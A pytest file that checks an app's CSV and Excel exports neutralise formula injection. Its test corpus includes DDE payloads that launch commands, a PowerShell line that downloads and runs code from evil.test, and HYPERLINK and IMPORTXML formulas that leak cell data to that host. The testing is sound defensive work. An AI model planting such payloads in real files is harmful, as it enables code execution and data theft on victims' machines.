"""Exports (lib.exports) and the CSV/formula-injection class (issue 13, point 2).

Text a person typed must reach a spreadsheet as that text, never as a formula or a DDE call.
First the writer itself over a hostile corpus and random text (hypothesis); then the corpus is
stored through the real services (clients, campaigns, creators and their handles, addresses
and tags, collaborations, reasons, notes, payments, shipments, reviewer feedback and staff
replies) and every export is opened the way a spreadsheet program would read it: each .xlsx
with openpyxl, each CSV with the csv module.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st_module
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from streamlit.testing.v1 import AppTest

from lib import (
    campaigns,
    console,
    deliveries,
    exports,
    feedback,
    imports,
    progress,
    reports,
    reviewers,
    rules,
    snapshots,
    users,
)
from lib import collaborations as collabs
from lib import creators as creator_service
from lib.db import Database, read_identity, utcnow
from lib.models import (
    MAX_CARRIER_CHARS,
    MAX_TAG_CHARS,
    CampaignFields,
    DeliveryStatus,
    Role,
    ShipmentChange,
    User,
)
from lib.reports import ReportScope
from tests.conftest import T0, assert_ok, login

# Text a spreadsheet would run, in as many shapes of the class as we know: formulas, DDE,
# leading whitespace and line breaks before the sign, full-width and other look-alike signs,
# invisible characters before it, handles, lone signs, negative-looking text.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n=1",
    "\r\n@x",
    " \t\n+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",
    "\u22121+1",  # minus sign
    "\u2013 1",  # en dash
    "\u200b=1+1",  # zero-width space before the sign
    "\ufeff=1+1",  # a byte-order mark before it
    "\u00a0=1+1",  # no-break space before it
    "=cmd|'/C powershell IEX(wget evil.test/x)'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.test/?",A1),"//a")',
    "=1+1;=2+2",
    "@name",
    "@ada.codes",
    "=",
    "+",
    "-",
    "@",
    "-5",
    "+49 30 1234",
    "\t",
    "\r",
]
# Text that is no formula but carries what breaks a CSV file: quotes, separators, line breaks.
PLAIN = [
    'Ada "the count" Lovelace',
    "a,b;c",
    "line one\r\nline two",
    "cr\ronly",
    "lf\nonly",
    "a;=1+1",
    "x,=1+1",
    "'quoted",
    "Zoë ✓ 東京",
    "tab\tinside",
    "100",
    "3.5%",
    "mail@example.com",
    "a-b",
    " ",
]
CORPUS = FORMULAS + PLAIN


def csv_rows(data: bytes) -> list[list[str]]:
    """A CSV file as a spreadsheet's reader sees it: UTF-8, fields split by the csv module."""
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def as_written(text: str) -> str:
    """What the CSV must hold for `text`: the text, behind a quote when it looks like a formula."""
    cleaned = exports.clean(text)
    return exports.CSV_PREFIX + cleaned if exports.looks_like_formula(cleaned) else cleaned


def typed(cell: str) -> str:
    """The text a person typed, read back from a CSV field written by lib.exports."""
    if cell.startswith(exports.CSV_PREFIX) and exports.looks_like_formula(cell[1:]):
        return cell[1:]
    return cell


def assert_no_formula_in_csv(data: bytes) -> list[list[str]]:
    """Every field is a number written as one (unquoted) or quoted text that no spreadsheet
    runs; every row has the header's width. The rows, for the caller to look into."""
    rows = csv_rows(data)
    # Read again the way QUOTE_NONNUMERIC marks them: unquoted fields come back as numbers,
    # and reading fails if an unquoted field is anything else.
    kinds = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""),
                            quoting=csv.QUOTE_NONNUMERIC))
    assert len(kinds) == len(rows)
    width = len(rows[0])
    for row, kind in zip(rows, kinds, strict=True):
        assert len(row) == width, row  # no field split, no row started inside a field
        for cell, read in zip(row, kind, strict=True):
            if isinstance(read, str):
                assert not exports.looks_like_formula(cell), cell
    return rows


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(data: bytes) -> list[str]:
    """Every cell holding text is a string cell; the texts, for the caller to look into."""
    found = []
    for cell in xlsx_cells(data):
        assert cell.data_type != "f", (cell.coordinate, cell.value)
        if isinstance(cell.value, str):
            assert cell.data_type == "s", (cell.coordinate, cell.value)
            found.append(cell.value)
    return found


# --- the writer itself ----------------------------------------------------------------------


def test_the_class_is_recognised() -> None:
    for text in FORMULAS:
        assert exports.looks_like_formula(text), repr(text)
    for text in PLAIN:
        assert not exports.looks_like_formula(text), repr(text)


def test_every_payload_reaches_a_csv_file_as_typed_text() -> None:
    rows = assert_no_formula_in_csv(exports.csv_bytes(CORPUS, [CORPUS, list(reversed(CORPUS))]))
    assert len(rows) == 3  # the header and two rows: no line break inside a field split one
    assert rows[0] == [as_written(t) for t in CORPUS]  # column names too
    assert rows[1] == [as_written(t) for t in CORPUS]
    assert rows[2] == [as_written(t) for t in reversed(CORPUS)]
    for text in FORMULAS:
        assert exports.CSV_PREFIX + text in rows[1]


def test_text_fields_are_quoted_so_other_separators_cannot_split_them() -> None:
    data = exports.csv_bytes(["note"], [["a;=1+1"], ["x\t=1+1"], ["y,=1"]]).decode()
    assert data == '"note"\r\n"a;=1+1"\r\n"x\t=1+1"\r\n"y,=1"\r\n'
    # Read as Excel set up for semicolons reads it: still one field per row.
    for row in csv.reader(io.StringIO(data, newline=""), delimiter=";"):
        assert len(row) == 1 and not exports.looks_like_formula(row[0])


def test_numbers_stay_numbers_and_negative_text_does_not() -> None:
    data = exports.csv_bytes(
        ["int", "float", "money", "text", "missing", "day", "at"],
        [[-5, -1.5, Decimal("-2.50"), "-5", None, dt.date(2026, 3, 9),
          dt.datetime(2026, 3, 9, 14, 30)]],
    ).decode()
    assert data.splitlines()[1] == '-5,-1.5,-2.50,"\'-5","","2026-03-09","2026-03-09 14:30:00"'
    book = Workbook()
    for column, value in enumerate([-5, -1.5, Decimal("-2.50"), "-5", None], start=1):
        exports.put(book.active, 1, column, value)
    # (an empty cell is not stored at all)
    [int_cell, float_cell, money_cell, text_cell] = xlsx_cells(exports.xlsx_bytes(book))
    assert (int_cell.value, int_cell.data_type) == (-5, "n")
    assert (float_cell.value, float_cell.data_type) == (-1.5, "n")
    assert (money_cell.value, money_cell.data_type) == (-2.5, "n")
    assert (text_cell.value, text_cell.data_type) == ("-5", "s")


def test_a_frame_with_a_hostile_column_name_and_values() -> None:
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": CORPUS, "n": range(-len(CORPUS), 0)})
    frame["when"] = pd.Timestamp("2026-03-09")
    frame.loc[0, "when"] = pd.NaT
    rows = assert_no_formula_in_csv(exports.frame_csv(frame))
    assert rows[0] == ["'=cmd|' /C calc'!A0", "n", "when"]
    assert [r[0] for r in rows[1:]] == [as_written(t) for t in CORPUS]
    assert [int(r[1]) for r in rows[1:]] == list(range(-len(CORPUS), 0))
    assert [r[2] for r in rows[1:]] == [""] + ["2026-03-09"] * (len(CORPUS) - 1)


def test_every_payload_reaches_a_workbook_as_a_string_cell() -> None:
    book = Workbook()
    sheet = book.active
    exports.append(sheet, CORPUS)  # as column names
    for row, text in enumerate(CORPUS, start=2):
        exports.put(sheet, row, 1, text)
    cells = xlsx_cells(exports.xlsx_bytes(book))
    by_place = {(c.row, c.column): c for c in cells}
    for column, text in enumerate(CORPUS, start=1):
        for cell in (by_place[1, column], by_place[column + 1, 1]):
            assert cell.data_type == "s" and cell.value == text, (text, cell.value)
            # Marked as typed after a quote, so editing the cell in Excel keeps it text.
            assert bool(cell.quotePrefix) == exports.looks_like_formula(text)


def test_a_formula_set_past_the_writer_is_still_saved_as_text() -> None:
    book = Workbook()
    book.active["A1"] = "=1+1"  # openpyxl makes this a formula cell
    book.active.append(["@SUM(A1)", "=HYPERLINK(\"http://evil.test\")"])
    assert book.active["A1"].data_type == "f"
    cells = xlsx_cells(exports.xlsx_bytes(book))
    assert [(c.value, c.data_type) for c in cells if c.value is not None] == [
        ("=1+1", "s"), ("@SUM(A1)", "s"), ('=HYPERLINK("http://evil.test")', "s")]


def test_characters_a_sheet_cannot_hold_are_left_out_in_both_formats() -> None:
    text = "=a\x00b\x01c\x0bd\x1fe\ufffef\uffff\ud800g"
    assert exports.clean(text) == "=abcdefg"
    assert csv_rows(exports.csv_bytes(["t"], [[text]]))[1] == ["'=abcdefg"]
    book = Workbook()
    exports.put(book.active, 1, 1, text)
    [cell] = xlsx_cells(exports.xlsx_bytes(book))
    assert (cell.value, cell.data_type) == ("=abcdefg", "s")


def test_a_cell_is_cut_at_excels_limit() -> None:
    book = Workbook()
    exports.put(book.active, 1, 1, "=" + "x" * 40_000)
    [cell] = xlsx_cells(exports.xlsx_bytes(book))
    assert len(cell.value) == exports.MAX_XLSX_CELL_CHARS and cell.data_type == "s"


@pytest.mark.parametrize("title", [
    "Spring [2026]: a/b\\c?*", "'=1+1'", "History", "history", "", "   ", "\x00\x01",
    "x" * 80, "line\r\nbreak", "＝HYPERLINK", "'", "Sheet",
])
def test_sheet_titles_from_user_text_are_valid(title: str) -> None:
    book = Workbook()
    safe = exports.sheet_title(title, fallback="Report", taken=book.sheetnames)
    book.create_sheet(safe)
    assert safe in book.sheetnames  # openpyxl kept it as it is: it needed no repair
    assert 1 <= len(safe) <= exports.MAX_SHEET_TITLE_CHARS
    assert not set(safe) & set("[]:*?/\\\r\n") and safe[0] != "'" and safe[-1] != "'"
    assert safe.lower() != "history" and safe.lower() not in {"sheet"}
    back = load_workbook(io.BytesIO(exports.xlsx_bytes(book)))
    assert safe in back.sheetnames


def test_sheet_titles_stay_unique() -> None:
    taken = ["Campaign", "campaign (2)"]
    assert exports.sheet_title("CAMPAIGN", taken=taken) == "CAMPAIGN (3)"
    assert len(exports.sheet_title("y" * 40, taken=["y" * 31])) == 31


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(max_size=40), min_size=1, max_size=8))
def test_any_text_round_trips_through_csv_and_no_field_is_a_formula(texts: list[str]) -> None:
    rows = assert_no_formula_in_csv(exports.csv_bytes(texts, [texts]))
    assert len(rows) == 2
    assert rows[0] == rows[1] == [as_written(t) for t in texts]
    assert [typed(c) for c in rows[1]] == [exports.clean(t) for t in texts]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.one_of(st.text(max_size=40), st.integers(-(2**53), 2**53),
                          # money as a sheet holds it: a double keeps 15 significant digits
                          st.decimals(-(10**12), 10**12, places=2)),
                min_size=1, max_size=8))
def test_any_value_round_trips_through_a_workbook(values: list[object]) -> None:
    book = Workbook()
    for column, value in enumerate(values, start=1):
        exports.put(book.active, 1, column, value)
    cells = {c.column: c for c in xlsx_cells(exports.xlsx_bytes(book))}
    for column, value in enumerate(values, start=1):
        cell = cells.get(column)
        if isinstance(value, str):
            expected = exports.clean(value)
            if expected:
                assert cell.data_type == "s" and cell.value == expected
            else:
                assert cell is None or cell.value is None
        else:
            assert cell.data_type == "n" and Decimal(str(cell.value)) == Decimal(value)


# --- the corpus through the real services ---------------------------------------------------


class Hostile:
    """What the services stored for the corpus, and the ids to export."""

    def __init__(self, db: Database, people: dict[Role, User]) -> None:
        self.db = db
        self.manager, self.staff = people[Role.MANAGER], people[Role.STAFF]
        self.viewer = people[Role.VIEWER]
        today = utcnow().date()
        self.client_id = campaigns.add_client(db, self.manager, '=HYPERLINK("http://evil.test")')
        self.campaign_id = campaigns.create_campaign(db, self.manager, CampaignFields(
            name="+cmd|' /C calc'!A0", client_id=self.client_id, owner_id=self.manager.id,
            brief="=1+1", start_date=today - dt.timedelta(days=30),
            end_date=today + dt.timedelta(days=30), budget="1000", currency="EUR"))
        self._import_creators()
        self._import_collaborations()
        self._write_activity(today)

    def _import(self, kind: str, header: list[str], rows: list[list[str]]) -> None:
        book = Workbook()
        exports.append(book.active, header)
        for row in rows:
            exports.append(book.active, row)
        data = exports.xlsx_bytes(book)
        checked = imports.preview(self.db, self.manager, kind, data, f"{kind}.xlsx")
        assert not checked.refused, checked.refused
        imports.commit(self.db, self.manager, checked)

    def _import_creators(self) -> None:
        rows, handles = [], set()
        for number, text in enumerate(CORPUS):
            # The text itself where it is a handle the rules keep, and one no earlier row has
            # taken (the store keeps one creator per platform and handle, case ignored, and
            # NFKC makes "＝1+1" the handle "=1+1").
            try:
                handle = rules.check_handle(text)
            except rules.RuleViolation:
                handle = ""
            if not handle or handle.lower() in handles:
                handle = f"h{number}"
            handles.add(handle.lower())
            name = text if text.strip() else f"blank {number}"
            address = text if text.strip() else f"Street {number}"
            rows.append([name, handle, "instagram", address])
        self._import("creators", ["name", "handle", "platform", "address"], rows)
        self.creator_ids = [r[0] for r in self.db.rows("SELECT id FROM creators ORDER BY id")]
        for creator_id, text in zip(self.creator_ids, FORMULAS, strict=False):
            if text.strip():
                creator_service.add_tag(self.db, self.staff, creator_id,
                                        text.strip()[:MAX_TAG_CHARS])

    def _import_collaborations(self) -> None:
        handles = [r[0] for r in self.db.rows("SELECT handle FROM creators ORDER BY id")]
        rows = [[str(self.campaign_id), handle, "instagram", "fulfilling", "100",
                 text if text.strip() else "1 post", text]
                for handle, text in zip(handles, CORPUS, strict=True)]
        self._import("collaborations", ["campaign_id", "handle", "platform", "status",
                                        "compensation", "deliverables", "conditions"], rows)
        self.collab_ids = [r[0] for r in self.db.rows(
            "SELECT id FROM collaborations ORDER BY creator_id")]

    def _write_activity(self, today: dt.date) -> None:
        token = _invite(self.db, self.manager, self.campaign_id)
        for collab_id, creator_id, typed_text in zip(self.collab_ids, self.creator_ids, CORPUS,
                                                     strict=True):
            text = typed_text if typed_text.strip() else f"-{collab_id}"  # blank is refused
            collabs.add_note(self.db, self.staff, collab_id, text)
            collabs.record_payment(self.db, self.staff, collab_id, "10.00", "EUR", today, text)
            shipment = deliveries.create_shipment(self.db, self.staff, collab_id, item=text,
                                                  carrier=text.strip()[:MAX_CARRIER_CHARS])
            deliveries.update_shipment(self.db, self.staff, shipment, 1, ShipmentChange(
                shipment, status=DeliveryStatus.EXCEPTION, reason=text))
            version = self.db.value("SELECT version FROM collaborations WHERE id = ?",
                                    [collab_id])
            collabs.change_status(self.db, self.manager, collab_id, version, "negotiating",
                                  reason=text)
            piece = reviewers.submit_feedback(self.db, token, "creator", creator_id, text,
                                              "approve")
            feedback.answer(self.db, self.staff, piece, text, "reply")
            feedback.answer(self.db, self.staff, piece, text, "internal_note")

    def stored(self, sql: str) -> set[str]:
        """The texts the database holds for `sql` (one text column)."""
        return {r[0] for r in self.db.rows(sql) if r[0]}

    def report(self) -> reports.WeeklyReport:
        week = rules.iso_week_label(utcnow().date())
        return reports.weekly_report(self.db, self.viewer, ReportScope(client_id=self.client_id),
                                     week)


def _invite(db: Database, manager: User, campaign_id: int) -> str:
    [delivery] = reviewers.invite(db, manager, campaign_id, "client@client.test",
                                  settings=lambda: None,
                                  base_url="https://desk.agency.test").deliveries
    return delivery.link.split("token=", 1)[1]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory, password_hash: str) -> Iterator[Hostile]:
    """One database for the module (the exports only read it): building it writes a few
    hundred changes through the services."""
    db = Database(tmp_path_factory.mktemp("exports") / "hostile.duckdb")
    for role in Role:
        db.value("INSERT INTO users (username, name, email, role, password_hash, created_at)"
                 " VALUES (?, ?, ?, ?, ?, ?) RETURNING id",
                 [role.value, role.value.title(), f"{role.value}@agency.test", role.value,
                  password_hash, T0])
    yield Hostile(db, {role: users.get_user(db, role.value) for role in Role})
    db.close()


# What each export must carry, as the database holds it (the services strip edges).
REPORTED = [
    # (the client's name is in the title line only)
    "SELECT name FROM campaigns", "SELECT name FROM creators",
    "SELECT handle FROM creators", "SELECT reference FROM payments",
    "SELECT item FROM shipments", "SELECT carrier FROM shipments",
    "SELECT exception_reason FROM shipments", "SELECT body FROM feedback",
    "SELECT text FROM activity_events WHERE kind = 'status_changed'",
]


def test_the_services_kept_the_hostile_text(hostile: Hostile) -> None:
    names = hostile.stored("SELECT name FROM creators")
    assert {"=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "＝1+1", "line one\r\nline two",
            "cr\ronly"} <= names
    assert "=1+1" in hostile.stored("SELECT handle FROM creators")
    assert hostile.stored("SELECT body FROM feedback_replies") >= {"=1+1", "@SUM(A1)"}


def test_the_weekly_workbook_holds_every_text_as_typed(hostile: Hostile) -> None:
    report = hostile.report()
    data = reports.workbook_bytes(report)
    texts = set(assert_no_formula_in_xlsx(data))
    for sql in REPORTED:
        missing = hostile.stored(sql) - texts
        assert not missing, (sql, missing)
    assert any(t.endswith('=HYPERLINK("http://evil.test")') for t in texts)  # the summary
    book = load_workbook(io.BytesIO(data))
    feedback_sheet = book["Feedback"]
    assert feedback_sheet.max_row == 1 + len(report.sections[6].frame)


def test_the_weekly_csv_files_hold_every_text_behind_a_quote(hostile: Hostile) -> None:
    report = hostile.report()
    archive = zipfile.ZipFile(io.BytesIO(reports.csv_zip_bytes(report)))
    frames = {"summary": report.summary} | {s.spec.name: s.frame for s in report.sections}
    texts: set[str] = set()
    for name, frame in frames.items():
        rows = assert_no_formula_in_csv(archive.read(f"{name}.csv"))
        assert len(rows) == 1 + len(frame), name  # no row split by a CR or LF in a field
        assert rows[0] == [as_written(str(c)) for c in frame.columns]
        for row in rows[1:]:
            for cell in row:
                texts.add(typed(cell))
                if exports.looks_like_formula(typed(cell)):
                    assert cell == exports.CSV_PREFIX + typed(cell)
    for sql in REPORTED:
        missing = hostile.stored(sql) - texts
        assert not missing, (sql, missing)


def test_the_address_list_holds_every_text_as_typed(hostile: Hostile) -> None:
    name, data = deliveries.export_addresses(hostile.db, hostile.viewer, hostile.campaign_id)
    assert name.endswith(".xlsx")
    texts = set(assert_no_formula_in_xlsx(data))
    handles = {"@" + h for h in hostile.stored("SELECT handle FROM creators")}
    assert "@=1+1" in handles and handles <= texts  # handles are written as @name
    for sql in ("SELECT name FROM creators", "SELECT address FROM shipments",
                "SELECT item FROM shipments", "SELECT carrier FROM shipments",
                "SELECT exception_reason FROM shipments"):
        missing = hostile.stored(sql) - texts
        assert not missing, (sql, missing)
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["+cmd|'  C calc'!A0"]  # the campaign's name, made a valid title
    sheet = book.active
    assert sheet.max_row == 1 + len(hostile.collab_ids)
    assert all(isinstance(sheet.cell(r, 1).value, int) for r in range(2, sheet.max_row + 1))


def test_the_console_download_holds_every_text_behind_a_quote(hostile: Hostile) -> None:
    snapshot = snapshots.write_snapshot(hostile.db, snapshots.snapshots_root(hostile.db.path),
                                        hostile.db.path)
    identity = read_identity(hostile.db.path)
    assert identity is not None
    sources = {
        "creators": "SELECT name AS t FROM creators UNION ALL SELECT handle FROM creators"
                    " UNION ALL SELECT address FROM creators",
        "tags": "SELECT tag AS t FROM creator_tags",
        "notes": "SELECT text AS t FROM activity_events WHERE text IS NOT NULL",
        "feedback": "SELECT body AS t FROM feedback",
        "replies": "SELECT body AS t FROM feedback_replies",
        "names": "SELECT name AS t FROM campaigns UNION ALL SELECT name FROM clients",
        "shipments": "SELECT item AS t FROM shipments UNION ALL SELECT carrier FROM shipments",
    }
    for what, inner in sources.items():
        sql = (f'SELECT t AS "=cmd|\' /C calc\'!A0", -5 AS n, \'-5\' AS s, 1.5 AS x'
               f" FROM ({inner}) ORDER BY t")
        result = console.run_query(snapshot, hostile.viewer, sql, row_limit=10_000,
                                   database=identity)
        rows = assert_no_formula_in_csv(result.csv())
        assert rows[0] == ["'=cmd|' /C calc'!A0", "n", "s", "x"]
        assert len(rows) == 1 + len(result.frame), what
        assert [typed(r[0]) for r in rows[1:]] == [exports.clean(t) if t else ""
                                                   for t in result.frame.iloc[:, 0]]
        assert {tuple(r[1:]) for r in rows[1:]} == {("-5", "'-5", "1.5")}
        assert any(exports.looks_like_formula(typed(r[0])) for r in rows[1:]), what


def test_the_import_templates_go_through_the_writer() -> None:
    for kind in imports.KINDS:
        rows = assert_no_formula_in_csv(imports.template_csv(kind))
        assert rows[0] == [c.name for c in imports.COLUMNS[kind]]
        assert_no_formula_in_xlsx(imports.template_xlsx(kind))


def test_the_progress_csv_files_go_through_the_writer(hostile: Hostile) -> None:
    scope = {"campaign_id": hostile.campaign_id}
    for frame in (progress.status_totals_by_week(hostile.db, **scope),
                  progress.funnel(hostile.db, **scope),
                  progress.median_days_by_stage(hostile.db, **scope)):
        rows = assert_no_formula_in_csv(exports.frame_csv(frame))
        assert rows[0] == [str(c) for c in frame.columns] and len(rows) == 1 + len(frame)


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> dict[str, bytes]:
    """What the pages hand to st.download_button, by label (AppTest keeps no file)."""
    offered: dict[str, bytes] = {}
    original = st_module.download_button

    def download_button(label: str, data: object, *args: object, **kwargs: object) -> bool:
        offered[label] = data() if callable(data) else data  # type: ignore[assignment]
        return original(label, data, *args, **kwargs)

    monkeypatch.setattr(st_module, "download_button", download_button)
    return offered


def test_the_progress_page_offers_the_writers_csv_files(app: AppTest,
                                                        downloads: dict[str, bytes]) -> None:
    login(app, "viewer")
    app.switch_page("pages/progress.py").run()
    assert_ok(app)
    assert list(downloads) == ["Download weekly status (CSV)", "Download funnel (CSV)",
                               "Download median days (CSV)"]
    for data in downloads.values():
        rows = assert_no_formula_in_csv(data)
        assert data.startswith(b'"') and len(rows) > 1  # quoted header: lib.exports wrote it


def test_the_console_page_offers_the_writers_csv_file(app: AppTest,
                                                      downloads: dict[str, bytes]) -> None:
    login(app, "viewer")
    app.switch_page("pages/sql_console.py").run()
    app.text_area[0].input("""SELECT '@SUM(A1)' AS "=cmd", -5 AS n""")
    app.button(key="FormSubmitter:console_form-Run query").click()
    app.run()
    assert_ok(app)
    assert csv_rows(downloads["Download CSV"]) == [["'=cmd", "n"], ["'@SUM(A1)", "-5"]]


def test_tables_offer_no_export_of_their_own() -> None:
    """st.dataframe's own "Download as CSV" writes text as it is: it is turned off, so every
    export is a file lib.exports wrote."""
    config = (Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text()
    assert "disableDataExport = true" in config
